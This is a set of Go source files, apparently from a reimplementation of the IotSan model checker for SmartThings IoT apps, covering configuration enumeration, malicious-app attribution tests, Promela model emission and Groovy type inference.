		case ir.InputPhone, ir.InputContact:
			if len(sys.Phones) > 0 {
				opts = append(opts, config.Binding{Value: sys.Phones[0]})
			} else {
				opts = append(opts, config.Binding{Value: "5551230000"})
			}
		case ir.InputTime:
			opts = append(opts, config.Binding{Value: "22:00"})
		case ir.InputText:
			opts = append(opts, config.Binding{Value: "text"})
		default:
			opts = append(opts, config.Binding{})
		}
		dims = append(dims, choice{input: in, opts: opts})
	}

	out := []map[string]config.Binding{{}}
	for _, d := range dims {
		var next []map[string]config.Binding
		for _, base := range out {
			for _, o := range d.opts {
				nb := make(map[string]config.Binding, len(base)+1)
				for k, v := range base {
					nb[k] = v
				}
				nb[d.input.Name] = o
				next = append(next, nb)
				if len(next) >= limit*4 {
					break
				}
			}
		}
		out = next
		if len(out) > limit {
			out = out[:limit]
		}
	}
	return out
}

func devicesWithCapability(sys *config.System, capName string) []string {
	var out []string
	for _, d := range sys.Devices {
		if m := device.ModelByName(d.Model); m != nil && m.HasCapability(capName) {
			out = append(out, d.ID)
		}
	}
	return out
}
