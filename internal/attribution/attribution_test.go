package attribution

import (
	"testing"

	"iotsan/internal/config"
	"iotsan/internal/corpus"
	"iotsan/internal/ir"
	"iotsan/internal/smartapp"
)

func attrHome() *config.System {
	return &config.System{
		Name: "attr-home", Modes: []string{"Home", "Away", "Night"}, Mode: "Home",
		Devices: []config.Device{
			{ID: "pres", Label: "Presence", Model: "Presence Sensor"},
			{ID: "frontLock", Label: "Front Lock", Model: "Smart Lock", Association: "main door"},
			{ID: "smoke", Label: "Smoke", Model: "Smoke Detector"},
			{ID: "valve", Label: "Sprinkler Valve", Model: "Water Valve", Association: "fire sprinkler valve", Initial: map[string]string{"valve": "open"}},
			{ID: "heater", Label: "Heater Outlet", Model: "Smart Power Outlet", Association: "heater"},
			{ID: "temp", Label: "Temp", Model: "Temperature Sensor"},
			{ID: "siren", Label: "Siren", Model: "Siren Alarm", Association: "alarm"},
		},
		Phones: []string{"15551230000"},
	}
}

func attribute(t *testing.T, appName string) *Report {
	t.Helper()
	src := corpus.MustSource(appName)
	app, err := smartapp.Translate(src)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := AttributeNewApp(attrHome(), app, map[string]*ir.App{appName: app}, Options{
		MaxEvents: 2, MaxConfigs: 16,
	})
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// TestMaliciousAttributed: the ContexIoT-style apps attribute as
// malicious with 100% violation ratio (§10.3).
func TestMaliciousAttributed(t *testing.T) {
	for _, name := range []string{"Presence Tracker Plus", "Night Breeze", "Water Saver Valve", "Vacation Comfort Prep"} {
		rep := attribute(t, name)
		if rep.Verdict != Malicious {
			t.Errorf("%s: verdict=%v ratio1=%.2f props=%v", name, rep.Verdict, rep.Phase1Ratio(), rep.ViolatedProperties)
		}
		if rep.Phase1Ratio() < 0.99 {
			t.Errorf("%s: phase1 ratio %.2f, want 1.0", name, rep.Phase1Ratio())
		}
	}
}

// TestGoodAppClean: a benign notifier attributes clean.
func TestGoodAppClean(t *testing.T) {
	rep := attribute(t, "Lock It When I Leave")
	if rep.Verdict == Malicious || rep.Verdict == Bad {
		t.Errorf("verdict=%v props=%v", rep.Verdict, rep.ViolatedProperties)
	}
}

func TestEnumerateConfigs(t *testing.T) {
	src := corpus.MustSource("Virtual Thermostat")
	app, err := smartapp.Translate(src)
	if err != nil {
		t.Fatal(err)
	}
	sys := attrHome()
	configs := EnumerateConfigs(sys, app, 32)
	if len(configs) == 0 {
		t.Fatal("no configurations enumerated")
	}
	for _, c := range configs {
		if _, ok := c["sensor"]; !ok {
			t.Fatalf("config missing sensor binding: %v", c)
		}
	}
}
