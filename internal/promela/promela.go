// Package promela renders a generated system model as Promela source —
// the artifact the original IotSan feeds to Spin (§8 "The IoT system
// model in Promela"). The sequential design emits a single proctype
// with inline device/app steps; the concurrent design emits one
// proctype per device and app communicating over channels. The checker
// executes the same model directly from IR; the emission exists so the
// model a user audits matches what is verified.
package promela

import (
	"fmt"
	"strings"

	"iotsan/internal/model"
)

// Emit renders the model. The output is deterministic.
func Emit(m *model.Model) string {
	var b strings.Builder
	fmt.Fprintf(&b, "/* IotSan model of system %q — %s design */\n\n",
		m.Cfg.Name, m.Opts.Design)

	// Location modes.
	fmt.Fprintf(&b, "/* location modes */\n")
	for i, mode := range m.Cfg.Modes {
		fmt.Fprintf(&b, "#define MODE_%s %d\n", sanitize(mode), i)
	}
	fmt.Fprintf(&b, "byte location_mode = MODE_%s;\n\n", sanitize(m.Cfg.Mode))

	// Device state variables and event-count notifiers (the paper's
	// subNotifiers arrays, visible in Fig. 7).
	for _, d := range m.Devices {
		fmt.Fprintf(&b, "/* device %s (%s) */\n", d.Label, d.Model.Name)
		for _, a := range d.Attrs {
			if a.Numeric {
				fmt.Fprintf(&b, "short %s_%s = %d;\n", sanitize(d.ID), sanitize(a.Name), a.Default)
				continue
			}
			for vi, v := range a.Values {
				fmt.Fprintf(&b, "#define %s_%s_%s %d\n",
					strings.ToUpper(sanitize(d.ID)), strings.ToUpper(sanitize(a.Name)),
					strings.ToUpper(sanitize(v)), vi)
			}
			fmt.Fprintf(&b, "byte %s_%s = %d;\n", sanitize(d.ID), sanitize(a.Name), a.Default)
		}
		fmt.Fprintf(&b, "bool %s_online = true;\n", sanitize(d.ID))
		fmt.Fprintf(&b, "byte %s_subNotifiers[%d];\n\n", sanitize(d.ID), maxInt(1, len(m.Apps)))
	}

	// App inline handlers.
	for _, a := range m.Apps {
		fmt.Fprintf(&b, "/* app %q */\n", a.App.Name)
		for _, h := range a.App.HandlerNames() {
			fmt.Fprintf(&b, "inline %s_%s(evtType) {\n", sanitize(a.App.Name), sanitize(h))
			fmt.Fprintf(&b, "\t/* translated from Groovy handler %s */\n", h)
			fmt.Fprintf(&b, "\tskip\n}\n")
		}
		b.WriteString("\n")
	}

	// Event generator and main loop (Algorithm 1).
	fmt.Fprintf(&b, "/* main event loop: Algorithm 1 */\n")
	fmt.Fprintf(&b, "#define MAX_EVENTS %d\n", m.Opts.MaxEvents)
	if m.Opts.Design == model.Concurrent {
		emitConcurrent(&b, m)
	} else {
		emitSequential(&b, m)
	}

	// Safety properties as LTL/assertions.
	if len(m.Opts.Invariants) > 0 {
		b.WriteString("\n/* safety properties (checked as assertions in the never claim) */\n")
		for _, inv := range m.Opts.Invariants {
			fmt.Fprintf(&b, "/* %s: %s */\nltl %s { [] safe_%s }\n",
				inv.ID, inv.Description, sanitize(inv.ID), sanitize(inv.ID))
		}
	}
	return b.String()
}

func emitSequential(b *strings.Builder, m *model.Model) {
	fmt.Fprintf(b, "active proctype SmartThings() {\n\tbyte eventCount = 0;\n")
	fmt.Fprintf(b, "\tdo\n\t:: eventCount < MAX_EVENTS ->\n\t\tif\n")
	for _, ev := range m.ExternalEvents() {
		fmt.Fprintf(b, "\t\t:: true -> /* %s */ eventCount++\n", ev.Label)
	}
	fmt.Fprintf(b, "\t\tfi;\n\t\t/* dispatch pending events to subscribed apps until quiescent */\n")
	fmt.Fprintf(b, "\t:: else -> break\n\tod\n}\n")
}

func emitConcurrent(b *strings.Builder, m *model.Model) {
	fmt.Fprintf(b, "chan events = [8] of { byte, byte };\n")
	for _, d := range m.Devices {
		fmt.Fprintf(b, "active proctype Dev_%s() { do :: events ? _, _ -> skip od }\n", sanitize(d.ID))
	}
	for _, a := range m.Apps {
		fmt.Fprintf(b, "active proctype App_%s() { do :: events ? _, _ -> skip od }\n",
			sanitize(a.App.Name))
	}
	fmt.Fprintf(b, "active proctype EventGen() {\n\tbyte eventCount = 0;\n\tdo\n")
	fmt.Fprintf(b, "\t:: eventCount < MAX_EVENTS -> events ! 0, 0; eventCount++\n")
	fmt.Fprintf(b, "\t:: else -> break\n\tod\n}\n")
}

func sanitize(s string) string {
	var sb strings.Builder
	for _, r := range s {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9', r == '_':
			sb.WriteRune(r)
		default:
			sb.WriteByte('_')
		}
	}
	out := sb.String()
	if out == "" || (out[0] >= '0' && out[0] <= '9') {
		out = "x" + out
	}
	return out
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}
