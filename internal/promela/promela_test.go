package promela

import (
	"strings"
	"testing"

	"iotsan/internal/config"
	"iotsan/internal/corpus"
	"iotsan/internal/ir"
	"iotsan/internal/model"
	"iotsan/internal/smartapp"
)

func buildModel(t *testing.T, design model.Design) *model.Model {
	t.Helper()
	app, err := smartapp.Translate(corpus.MustSource("Unlock Door"))
	if err != nil {
		t.Fatal(err)
	}
	cfg := &config.System{
		Name: "emit-home", Modes: []string{"Home", "Away"}, Mode: "Home",
		Devices: []config.Device{
			{ID: "lock1", Label: "Lock", Model: "Smart Lock"},
			{ID: "pres1", Label: "Pres", Model: "Presence Sensor"},
		},
		Apps: []config.AppInstance{{App: "Unlock Door", Bindings: map[string]config.Binding{
			"lock1": {DeviceIDs: []string{"lock1"}},
		}}},
	}
	m, err := model.New(cfg, map[string]*ir.App{"Unlock Door": app},
		model.Options{MaxEvents: 2, Design: design})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestEmitSequential(t *testing.T) {
	out := Emit(buildModel(t, model.Sequential))
	for _, want := range []string{
		"active proctype SmartThings()",
		"#define MAX_EVENTS 2",
		"byte lock1_lock",
		"#define LOCK1_LOCK_UNLOCKED 1",
		"lock1_subNotifiers",
		"inline Unlock_Door_appTouch",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in emitted Promela:\n%s", want, out)
		}
	}
}

func TestEmitConcurrent(t *testing.T) {
	out := Emit(buildModel(t, model.Concurrent))
	for _, want := range []string{
		"chan events", "proctype Dev_lock1()", "proctype App_Unlock_Door()",
		"proctype EventGen()",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in emitted Promela", want)
		}
	}
}

func TestSanitize(t *testing.T) {
	tests := map[string]string{
		"Let There Be Dark!": "Let_There_Be_Dark_",
		"9lives":             "x9lives",
		"ok_name":            "ok_name",
	}
	for in, want := range tests {
		if got := sanitize(in); got != want {
			t.Errorf("sanitize(%q) = %q, want %q", in, got, want)
		}
	}
}
