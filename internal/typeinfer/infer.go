// Package typeinfer implements the static type inference the IotSan
// translator performs on dynamically typed Groovy (§6 "Type inference").
//
// Groovy checks types at run time; a model amenable to checking (and the
// Promela emitter) needs static types. Inference starts from anchor
// points — preference inputs with declared capabilities, literal
// assignments, returns of known APIs, and known platform objects — and
// propagates types through assignments, method arguments, and return
// values iteratively until no new variable types can be inferred.
package typeinfer

import (
	"strings"

	"iotsan/internal/device"
	"iotsan/internal/groovy"
	"iotsan/internal/ir"
)

// Infer computes types for the app's method bodies, filling app.Types
// (keyed by AST node) and returning the per-method signatures.
func Infer(app *ir.App) map[string]*Signature {
	inf := &inferencer{
		app:  app,
		sigs: map[string]*Signature{},
	}
	inf.globals = inf.globalEnv()
	// Fixpoint: method signature changes feed back into call sites.
	for range [8]struct{}{} {
		inf.changed = false
		for name, m := range app.Methods {
			inf.inferMethod(name, m)
		}
		if !inf.changed {
			break
		}
	}
	return inf.sigs
}

// Signature is the inferred signature of a method.
type Signature struct {
	Params []ir.Type
	Return ir.Type
}

type inferencer struct {
	app     *ir.App
	globals map[string]ir.Type
	sigs    map[string]*Signature
	changed bool
}

// globalEnv builds the anchor-point environment: inputs declared in
// preferences plus the SmartThings platform objects.
func (inf *inferencer) globalEnv() map[string]ir.Type {
	env := map[string]ir.Type{
		"state":    {Kind: ir.KindMap},
		"settings": {Kind: ir.KindMap},
		"location": {Kind: ir.KindLocation},
		"app":      ir.Dynamic,
	}
	for _, in := range inf.app.Inputs {
		env[in.Name] = inputType(in)
	}
	return env
}

func inputType(in ir.Input) ir.Type {
	switch in.Kind {
	case ir.InputDevice:
		t := ir.DeviceType(in.Capability)
		if in.Multiple {
			return ir.ListOf(t)
		}
		return t
	case ir.InputNumber:
		return ir.Num
	case ir.InputBool:
		return ir.Bool
	case ir.InputEnum, ir.InputText, ir.InputTime, ir.InputPhone,
		ir.InputContact, ir.InputMode:
		return ir.String
	}
	return ir.Dynamic
}

func (inf *inferencer) sig(name string, nparams int) *Signature {
	s := inf.sigs[name]
	if s == nil {
		s = &Signature{Params: make([]ir.Type, nparams), Return: ir.Dynamic}
		inf.sigs[name] = s
	}
	for len(s.Params) < nparams {
		s.Params = append(s.Params, ir.Dynamic)
	}
	return s
}

// merge combines two type facts; conflicting facts widen to Dynamic,
// numeric facts widen to Num.
func merge(a, b ir.Type) ir.Type {
	if a.Kind == ir.KindDynamic || a.Kind == ir.KindNull {
		return b
	}
	if b.Kind == ir.KindDynamic || b.Kind == ir.KindNull {
		return a
	}
	if a.Kind == b.Kind {
		if a.Kind == ir.KindList && a.Elem != nil && b.Elem != nil {
			e := merge(*a.Elem, *b.Elem)
			return ir.ListOf(e)
		}
		return a
	}
	if (a.Kind == ir.KindInt && b.Kind == ir.KindNum) ||
		(a.Kind == ir.KindNum && b.Kind == ir.KindInt) {
		return ir.Num
	}
	return ir.Dynamic
}

func (inf *inferencer) setSigParam(s *Signature, i int, t ir.Type) {
	if i >= len(s.Params) {
		return
	}
	n := merge(s.Params[i], t)
	if n != s.Params[i] {
		s.Params[i] = n
		inf.changed = true
	}
}

func (inf *inferencer) setSigReturn(s *Signature, t ir.Type) {
	n := merge(s.Return, t)
	if n != s.Return {
		s.Return = n
		inf.changed = true
	}
}

func (inf *inferencer) inferMethod(name string, m *groovy.MethodDecl) {
	sig := inf.sig(name, len(m.Params))
	env := map[string]ir.Type{}
	for i, p := range m.Params {
		t := sig.Params[i]
		if p.Type != "" {
			t = namedType(p.Type)
		}
		if p.Name == "evt" || p.Name == "event" {
			t = ir.Event
		}
		env[p.Name] = t
	}
	if m.Type != "" {
		inf.setSigReturn(sig, namedType(m.Type))
	}
	rt := inf.inferBlock(m.Body, env, sig)
	// Groovy implicitly returns the value of the final expression.
	if rt.Kind != ir.KindDynamic {
		inf.setSigReturn(sig, rt)
	}
}

// inferBlock types all statements; the returned type is the implicit
// value of the block (its final expression statement).
func (inf *inferencer) inferBlock(b *groovy.Block, env map[string]ir.Type, sig *Signature) ir.Type {
	last := ir.Dynamic
	if b == nil {
		return last
	}
	for i, st := range b.Stmts {
		t := inf.inferStmt(st, env, sig)
		if i == len(b.Stmts)-1 {
			last = t
		}
	}
	return last
}

func (inf *inferencer) inferStmt(st groovy.Stmt, env map[string]ir.Type, sig *Signature) ir.Type {
	switch s := st.(type) {
	case *groovy.VarDeclStmt:
		t := ir.Dynamic
		if s.Type != "" {
			t = namedType(s.Type)
		}
		if s.Init != nil {
			t = merge(t, inf.inferExpr(s.Init, env, sig))
		}
		env[s.Name] = t
		inf.record(st, t)
	case *groovy.AssignStmt:
		rt := inf.inferExpr(s.RHS, env, sig)
		if id, ok := s.LHS.(*groovy.Ident); ok {
			prev, exists := env[id.Name]
			if exists {
				env[id.Name] = merge(prev, rt)
			} else {
				env[id.Name] = rt
			}
			inf.record(id, env[id.Name])
		} else {
			inf.inferExpr(s.LHS, env, sig)
		}
	case *groovy.ExprStmt:
		return inf.inferExpr(s.X, env, sig)
	case *groovy.IfStmt:
		inf.inferExpr(s.Cond, env, sig)
		inf.inferBlock(s.Then, env, sig)
		if s.Else != nil {
			inf.inferStmt(s.Else, env, sig)
		}
	case *groovy.Block:
		inf.inferBlock(s, env, sig)
	case *groovy.WhileStmt:
		inf.inferExpr(s.Cond, env, sig)
		inf.inferBlock(s.Body, env, sig)
	case *groovy.ForInStmt:
		it := inf.inferExpr(s.Iter, env, sig)
		ev := ir.Dynamic
		if it.Kind == ir.KindList && it.Elem != nil {
			ev = *it.Elem
		}
		env[s.Var] = ev
		inf.inferBlock(s.Body, env, sig)
	case *groovy.ForCStmt:
		if s.Init != nil {
			inf.inferStmt(s.Init, env, sig)
		}
		if s.Cond != nil {
			inf.inferExpr(s.Cond, env, sig)
		}
		if s.Post != nil {
			inf.inferStmt(s.Post, env, sig)
		}
		inf.inferBlock(s.Body, env, sig)
	case *groovy.ReturnStmt:
		if s.X != nil {
			inf.setSigReturn(sig, inf.inferExpr(s.X, env, sig))
		}
	case *groovy.SwitchStmt:
		inf.inferExpr(s.Subject, env, sig)
		for _, c := range s.Cases {
			for _, v := range c.Values {
				inf.inferExpr(v, env, sig)
			}
			for _, b := range c.Body {
				inf.inferStmt(b, env, sig)
			}
		}
		for _, b := range s.Default {
			inf.inferStmt(b, env, sig)
		}
	case *groovy.TryStmt:
		inf.inferBlock(s.Body, env, sig)
		for _, c := range s.Catches {
			inf.inferBlock(c.Body, env, sig)
		}
		if s.Finally != nil {
			inf.inferBlock(s.Finally, env, sig)
		}
	}
	return ir.Dynamic
}

func (inf *inferencer) record(n groovy.Node, t ir.Type) {
	if t.Kind != ir.KindDynamic {
		inf.app.Types[n] = t
	}
}

func (inf *inferencer) inferExpr(e groovy.Expr, env map[string]ir.Type, sig *Signature) ir.Type {
	t := inf.inferExprUncached(e, env, sig)
	inf.record(e, t)
	return t
}

func (inf *inferencer) inferExprUncached(e groovy.Expr, env map[string]ir.Type, sig *Signature) ir.Type {
	switch x := e.(type) {
	case *groovy.IntLit:
		return ir.Int
	case *groovy.NumLit:
		return ir.Num
	case *groovy.StrLit, *groovy.GStringLit:
		if g, ok := e.(*groovy.GStringLit); ok {
			for _, ge := range g.Exprs {
				inf.inferExpr(ge, env, sig)
			}
		}
		return ir.String
	case *groovy.BoolLit:
		return ir.Bool
	case *groovy.NullLit:
		return ir.Null
	case *groovy.Ident:
		if t, ok := env[x.Name]; ok {
			return t
		}
		if t, ok := inf.globals[x.Name]; ok {
			return t
		}
		return ir.Dynamic
	case *groovy.ListLit:
		elem := ir.Dynamic
		for _, el := range x.Elems {
			elem = merge(elem, inf.inferExpr(el, env, sig))
		}
		return ir.ListOf(elem)
	case *groovy.MapLit:
		for _, en := range x.Entries {
			inf.inferExpr(en.Value, env, sig)
		}
		return ir.Type{Kind: ir.KindMap}
	case *groovy.RangeLit:
		inf.inferExpr(x.Lo, env, sig)
		inf.inferExpr(x.Hi, env, sig)
		return ir.ListOf(ir.Int)
	case *groovy.BinaryExpr:
		lt := inf.inferExpr(x.L, env, sig)
		rt := inf.inferExpr(x.R, env, sig)
		switch x.Op {
		case groovy.Eq, groovy.Neq, groovy.Lt, groovy.Gt, groovy.Le,
			groovy.Ge, groovy.AndAnd, groovy.OrOr, groovy.KwIn:
			return ir.Bool
		case groovy.Compare:
			return ir.Int
		case groovy.Plus:
			if lt.Kind == ir.KindString || rt.Kind == ir.KindString {
				return ir.String
			}
			if lt.Kind == ir.KindList {
				return merge(lt, rt) // Fig. 6: List + List
			}
			return arith(lt, rt)
		default:
			return arith(lt, rt)
		}
	case *groovy.UnaryExpr:
		t := inf.inferExpr(x.X, env, sig)
		if x.Op == groovy.Not {
			return ir.Bool
		}
		return t
	case *groovy.IncDecExpr:
		return inf.inferExpr(x.X, env, sig)
	case *groovy.TernaryExpr:
		inf.inferExpr(x.Cond, env, sig)
		return merge(inf.inferExpr(x.Then, env, sig), inf.inferExpr(x.Else, env, sig))
	case *groovy.ElvisExpr:
		return merge(inf.inferExpr(x.X, env, sig), inf.inferExpr(x.Y, env, sig))
	case *groovy.CastExpr:
		inf.inferExpr(x.X, env, sig)
		return namedType(x.Type)
	case *groovy.InstanceofExpr:
		inf.inferExpr(x.X, env, sig)
		return ir.Bool
	case *groovy.NewExpr:
		for _, a := range x.Args {
			inf.inferExpr(a, env, sig)
		}
		if x.Type == "Date" {
			return ir.Int
		}
		return ir.Dynamic
	case *groovy.IndexExpr:
		rt := inf.inferExpr(x.Recv, env, sig)
		inf.inferExpr(x.Index, env, sig)
		if rt.Kind == ir.KindList && rt.Elem != nil {
			return *rt.Elem
		}
		return ir.Dynamic
	case *groovy.PropertyExpr:
		return inf.inferProperty(x, env, sig)
	case *groovy.CallExpr:
		return inf.inferCall(x, env, sig)
	case *groovy.ClosureExpr:
		inf.inferBlock(x.Body, env, sig)
		return ir.Dynamic
	}
	return ir.Dynamic
}

func arith(a, b ir.Type) ir.Type {
	if a.Kind == ir.KindInt && b.Kind == ir.KindInt {
		return ir.Int
	}
	if a.IsNumericKind() || b.IsNumericKind() {
		return ir.Num
	}
	return ir.Dynamic
}

func (inf *inferencer) inferProperty(x *groovy.PropertyExpr, env map[string]ir.Type, sig *Signature) ir.Type {
	rt := inf.inferExpr(x.Recv, env, sig)
	switch rt.Kind {
	case ir.KindEvent:
		switch x.Name {
		case "value", "name", "displayName", "descriptionText", "deviceId", "stringValue":
			return ir.String
		case "numericValue", "doubleValue", "floatValue":
			return ir.Num
		case "integerValue":
			return ir.Int
		case "isStateChange", "physical", "digital":
			return ir.Bool
		case "device":
			return ir.DeviceType("")
		case "date":
			return ir.Int
		}
	case ir.KindLocation:
		switch x.Name {
		case "mode", "name", "currentMode":
			return ir.String
		case "modes":
			return ir.ListOf(ir.String)
		}
	case ir.KindDevice:
		if attr, ok := currentAttr(x.Name); ok {
			return attrType(rt.Capability, attr)
		}
		switch x.Name {
		case "displayName", "label", "name", "id":
			return ir.String
		}
	case ir.KindList:
		if rt.Elem != nil && rt.Elem.Kind == ir.KindDevice {
			if attr, ok := currentAttr(x.Name); ok {
				return ir.ListOf(attrType(rt.Elem.Capability, attr))
			}
		}
		if x.Name == "size" {
			return ir.Int
		}
	case ir.KindMap:
		return ir.Dynamic // state.foo — refined at assignment sites
	}
	return ir.Dynamic
}

func currentAttr(prop string) (string, bool) {
	if strings.HasPrefix(prop, "current") && len(prop) > len("current") {
		rest := prop[len("current"):]
		return strings.ToLower(rest[:1]) + rest[1:], true
	}
	return "", false
}

func attrType(capability, attr string) ir.Type {
	if c := device.CapabilityByName(capability); c != nil {
		if a := c.Attribute(attr); a != nil {
			if a.Numeric {
				return ir.Num
			}
			return ir.String
		}
	}
	// Attribute of a sibling capability on the same physical device.
	for _, cn := range device.Capabilities() {
		if a := device.CapabilityByName(cn).Attribute(attr); a != nil {
			if a.Numeric {
				return ir.Num
			}
			return ir.String
		}
	}
	return ir.Dynamic
}

func (inf *inferencer) inferCall(x *groovy.CallExpr, env map[string]ir.Type, sig *Signature) ir.Type {
	var argTypes []ir.Type
	for _, a := range x.Args {
		argTypes = append(argTypes, inf.inferExpr(a, env, sig))
	}
	for _, na := range x.NamedArgs {
		inf.inferExpr(na.Value, env, sig)
	}

	var recvType ir.Type
	if x.Recv != nil {
		recvType = inf.inferExpr(x.Recv, env, sig)
	}

	if x.Closure != nil {
		cenv := env
		if recvType.Kind == ir.KindList && recvType.Elem != nil {
			cenv = copyEnv(env)
			name := "it"
			if !x.Closure.Implicit && len(x.Closure.Params) > 0 {
				name = x.Closure.Params[0].Name
			}
			cenv[name] = *recvType.Elem
		}
		inf.inferBlock(x.Closure.Body, cenv, sig)
	}

	// Known platform and utility APIs (anchor points).
	switch x.Name {
	case "now":
		return ir.Int
	case "size", "count", "toInteger", "intValue":
		return ir.Int
	case "toFloat", "toDouble", "toBigDecimal", "sum":
		return ir.Num
	case "contains", "any", "every", "isEmpty", "equals", "startsWith",
		"endsWith", "canSchedule", "timeOfDayIsBetween":
		return ir.Bool
	case "toString", "toLowerCase", "toUpperCase", "trim", "join":
		return ir.String
	case "first", "last", "min", "max", "find":
		if recvType.Kind == ir.KindList && recvType.Elem != nil {
			return *recvType.Elem
		}
		return ir.Dynamic
	case "findAll", "collect", "sort", "unique", "reverse", "plus":
		if recvType.Kind == ir.KindList {
			return recvType
		}
		return ir.Dynamic
	case "currentValue", "latestValue":
		if recvType.Kind == ir.KindDevice && len(x.Args) > 0 {
			if s, ok := x.Args[0].(*groovy.StrLit); ok {
				return attrType(recvType.Capability, s.V)
			}
		}
		return ir.Dynamic
	case "currentState", "latestState":
		return ir.Dynamic
	case "getSunriseAndSunset":
		return ir.Type{Kind: ir.KindMap}
	}

	// Spread command on a device collection returns a list.
	if x.Spread {
		return ir.ListOf(ir.Dynamic)
	}

	// User-defined method: propagate argument types in, return type out.
	if x.Recv == nil {
		if m := inf.app.Methods[x.Name]; m != nil {
			ms := inf.sig(x.Name, len(m.Params))
			for i, at := range argTypes {
				inf.setSigParam(ms, i, at)
			}
			return ms.Return
		}
	}
	return ir.Dynamic
}

func copyEnv(in map[string]ir.Type) map[string]ir.Type {
	out := make(map[string]ir.Type, len(in))
	for k, v := range in {
		out[k] = v
	}
	return out
}

// namedType maps explicit Groovy/Java type names to IR types.
func namedType(name string) ir.Type {
	if strings.HasSuffix(name, "[]") {
		e := namedType(strings.TrimSuffix(name, "[]"))
		return ir.ListOf(e)
	}
	switch name {
	case "int", "Integer", "long", "Long", "short":
		return ir.Int
	case "float", "Float", "double", "Double", "BigDecimal", "Number":
		return ir.Num
	case "String", "GString", "CharSequence":
		return ir.String
	case "boolean", "Boolean":
		return ir.Bool
	case "List", "ArrayList", "Collection", "Set", "HashSet":
		return ir.ListOf(ir.Dynamic)
	case "Map", "HashMap", "LinkedHashMap":
		return ir.Type{Kind: ir.KindMap}
	case "Date":
		return ir.Int
	case "def", "Object", "":
		return ir.Dynamic
	}
	if strings.HasPrefix(name, "ST") { // STSwitch etc. — device stand-ins
		return ir.DeviceType("")
	}
	return ir.Dynamic
}
