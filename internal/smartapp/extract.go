// Package smartapp translates parsed SmartThings Groovy scripts into the
// ir.App intermediate representation: it interprets the SmartThings
// language extensions (definition, preferences/input, subscribe, schedule
// — §6 "Handling SmartThings' language features"), and performs the
// static analysis that enumerates each event handler's input and output
// events (§5 "Extracting input/output events").
package smartapp

import (
	"fmt"
	"strings"

	"iotsan/internal/device"
	"iotsan/internal/groovy"
	"iotsan/internal/ir"
	"iotsan/internal/typeinfer"
)

// A TranslateError reports a translation problem.
type TranslateError struct {
	App string
	Msg string
}

func (e *TranslateError) Error() string {
	return fmt.Sprintf("smartapp %q: %s", e.App, e.Msg)
}

// Translate parses and translates a smart app's Groovy source into an
// ir.App, including type inference results.
func Translate(src string) (*ir.App, error) {
	script, err := groovy.ParseScript(src)
	if err != nil {
		return nil, err
	}
	app := &ir.App{
		Methods: script.Methods(),
		Fields:  script.Fields(),
		Types:   map[groovy.Node]ir.Type{},
		Source:  src,
	}
	for _, call := range script.TopLevelCalls() {
		switch call.Name {
		case "definition":
			extractDefinition(app, call)
		case "preferences":
			if err := extractPreferences(app, call); err != nil {
				return nil, err
			}
		case "mappings", "include":
			// Web-endpoint mappings are outside the model's scope.
		}
	}
	if app.Name == "" {
		return nil, &TranslateError{App: "?", Msg: "missing definition(name: ...)"}
	}
	extractWiring(app)
	typeinfer.Infer(app)
	return app, nil
}

func extractDefinition(app *ir.App, call *groovy.CallExpr) {
	for _, na := range call.NamedArgs {
		v, ok := na.Value.(*groovy.StrLit)
		if !ok {
			continue
		}
		switch na.Key {
		case "name":
			app.Name = v.V
		case "namespace":
			app.Namespace = v.V
		case "description":
			app.Description = v.V
		case "category":
			app.Category = v.V
		}
	}
}

// extractPreferences walks the preferences block — sections, dynamic
// pages, and bare input calls — collecting the app's inputs. Each input
// defines a script-global variable (§6).
func extractPreferences(app *ir.App, call *groovy.CallExpr) error {
	if call.Closure == nil {
		return nil
	}
	return walkPrefBlock(app, call.Closure.Body)
}

func walkPrefBlock(app *ir.App, b *groovy.Block) error {
	for _, st := range b.Stmts {
		es, ok := st.(*groovy.ExprStmt)
		if !ok {
			continue
		}
		c, ok := es.X.(*groovy.CallExpr)
		if !ok {
			continue
		}
		switch c.Name {
		case "section", "page", "dynamicPage":
			if c.Closure != nil {
				if err := walkPrefBlock(app, c.Closure.Body); err != nil {
					return err
				}
			}
		case "input":
			in, err := parseInput(app, c)
			if err != nil {
				return err
			}
			if in != nil {
				app.Inputs = append(app.Inputs, *in)
			}
		case "paragraph", "label", "mode", "href", "icon":
			// Informational elements with no model-relevant binding.
		}
	}
	return nil
}

func parseInput(app *ir.App, c *groovy.CallExpr) (*ir.Input, error) {
	var name, typ string
	if len(c.Args) >= 1 {
		if s, ok := c.Args[0].(*groovy.StrLit); ok {
			name = s.V
		}
	}
	if len(c.Args) >= 2 {
		if s, ok := c.Args[1].(*groovy.StrLit); ok {
			typ = s.V
		}
	}
	// Named-argument form: input name: "x", type: "capability.switch".
	for _, na := range c.NamedArgs {
		if s, ok := na.Value.(*groovy.StrLit); ok {
			switch na.Key {
			case "name":
				name = s.V
			case "type":
				typ = s.V
			}
		}
	}
	if name == "" || typ == "" {
		return nil, nil // decorative input; nothing to bind
	}

	in := &ir.Input{Name: name, Required: true}
	switch {
	case strings.HasPrefix(typ, "capability."):
		in.Kind = ir.InputDevice
		in.Capability = strings.TrimPrefix(typ, "capability.")
		if device.CapabilityByName(in.Capability) == nil {
			return nil, &TranslateError{App: app.Name,
				Msg: fmt.Sprintf("input %q: unsupported capability %q", name, in.Capability)}
		}
	case strings.HasPrefix(typ, "device."):
		in.Kind = ir.InputDevice
		in.Capability = "switch" // specific device handler: model by its main capability
	case typ == "number", typ == "decimal":
		in.Kind = ir.InputNumber
	case typ == "enum":
		in.Kind = ir.InputEnum
	case typ == "text", typ == "string", typ == "password", typ == "email":
		in.Kind = ir.InputText
	case typ == "bool", typ == "boolean":
		in.Kind = ir.InputBool
	case typ == "time":
		in.Kind = ir.InputTime
	case typ == "phone":
		in.Kind = ir.InputPhone
	case typ == "contact":
		in.Kind = ir.InputContact
	case typ == "mode":
		in.Kind = ir.InputMode
	case typ == "hub", typ == "icon":
		in.Kind = ir.InputIcon
	default:
		return nil, &TranslateError{App: app.Name,
			Msg: fmt.Sprintf("input %q: unknown input type %q", name, typ)}
	}

	for _, na := range c.NamedArgs {
		switch na.Key {
		case "title":
			if s, ok := na.Value.(*groovy.StrLit); ok {
				in.Title = s.V
			}
		case "multiple":
